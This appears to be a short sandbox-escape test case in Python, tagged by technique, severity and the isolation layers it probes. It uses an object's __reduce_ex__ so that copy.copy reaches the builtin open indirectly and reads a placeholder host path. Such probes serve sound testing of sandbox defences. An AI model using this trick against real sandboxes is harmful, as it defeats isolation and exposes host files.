# technique: copying an object calls what the object names
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import copy

class Deputy:
    def __reduce_ex__(self, protocol):
        return (print.__self__.open, ("@READABLE@",))

def trick():
    text = copy.copy(Deputy())
    return lambda path: text

read_host(trick)
